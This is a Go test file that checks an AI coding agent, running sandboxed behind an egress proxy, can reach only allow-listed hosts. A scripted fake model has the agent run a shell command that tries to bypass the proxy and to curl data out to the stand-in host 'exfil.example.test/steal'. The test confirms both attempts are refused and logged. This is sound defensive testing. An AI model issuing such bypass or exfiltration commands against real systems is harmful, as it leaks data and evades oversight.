package codex

import (
	"context"
	"fmt"
	"net"
	"strings"
	"sync/atomic"
	"testing"

	"github.com/codex-studio/studio-action/internal/fakemodel"
	"github.com/codex-studio/studio-action/policy/egress"
)

// loopbackListener answers every connection with a short HTTP response and counts them: the
// "anywhere" a call must not reach directly, or a mirror on the allow-list.
func loopbackListener(t *testing.T, body string) (string, *atomic.Int32) {
	t.Helper()
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { ln.Close() })
	var n atomic.Int32
	go func() {
		for {
			c, err := ln.Accept()
			if err != nil {
				return
			}
			n.Add(1)
			buf := make([]byte, 4096)
			_, _ = c.Read(buf)
			fmt.Fprintf(c, "HTTP/1.1 200 OK\r\nContent-Length: %d\r\nConnection: close\r\n\r\n%s", len(body), body)
			c.Close()
		}
	}()
	return ln.Addr().String(), &n
}

// TestRealCodexReachesTheModelOnlyThroughTheEgressProxy: the real Codex CLI, in the sandbox with
// the run's egress proxy, talks to the scripted model server through it (the model route), and
// the command the model asks for tries the host directly (refused), a host off the list through
// the proxy (blocked, with its command), and a mirror on the list (reached).
func TestRealCodexReachesTheModelOnlyThroughTheEgressProxy(t *testing.T) {
	anywhere, reachedAnywhere := loopbackListener(t, "reached-anywhere")
	mirror, reachedMirror := loopbackListener(t, "mirror-ok")
	attack := fmt.Sprintf(`curl -s --noproxy '*' --max-time 5 http://%[1]s/ || echo direct-refused; `+
		`curl -s --max-time 5 http://exfil.example.test/steal || echo proxy-refused; `+
		`curl -s --max-time 5 http://%[2]s/pkg; echo; echo done`, anywhere, mirror)
	rig := newRealRig(t, fakemodel.Script{Turns: []fakemodel.Turn{
		fakemodel.Reply(fakemodel.Exec("c1", attack)),
		fakemodel.Reply(fakemodel.Message("tried the network")),
	}})
	rig.cli.Jail = testJail(t, modeSandbox)
	allow, err := egress.ParseList([]string{mirror})
	if err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithCancel(context.Background())
	t.Cleanup(cancel)
	eg, err := StartEgress(ctx, NetworkConfig{Mode: egress.AllowList, Allow: allow}, rig.proxy.Handler())
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { eg.Close() })
	rig.cli.Egress = eg

	out := rig.run(Plan{Prompt: "Try the network."}, Hooks{})
	if out.FinalStatus != StatusDone {
		t.Fatalf("status %s\n%s", out.FinalStatus, out.Output())
	}
	if n := len(rig.server.Requests()); n != 2 {
		t.Fatalf("the model server got %d requests through the proxy; want 2", n)
	}
	outputs := toolOutputs(t, rig.server.Requests())
	if len(outputs) != 1 || !strings.Contains(outputs[0], "done") {
		t.Fatalf("control: the command did not run to its end: %q", outputs)
	}
	got := outputs[0]
	if !strings.Contains(got, "direct-refused") || reachedAnywhere.Load() != 0 {
		t.Errorf("the command reached the host directly (%d):\n%s", reachedAnywhere.Load(), got)
	}
	if !strings.Contains(got, "mirror-ok") || reachedMirror.Load() != 1 {
		t.Errorf("the mirror on the allow-list was not reached (%d):\n%s", reachedMirror.Load(), got)
	}
	b := eg.Blocks()
	if b.Total != 1 || b.Kept()[0].Host != "exfil.example.test" || !strings.Contains(b.Kept()[0].Command, "curl") {
		t.Errorf("blocks = %+v; want the exfiltration by curl", b.Kept())
	}
}
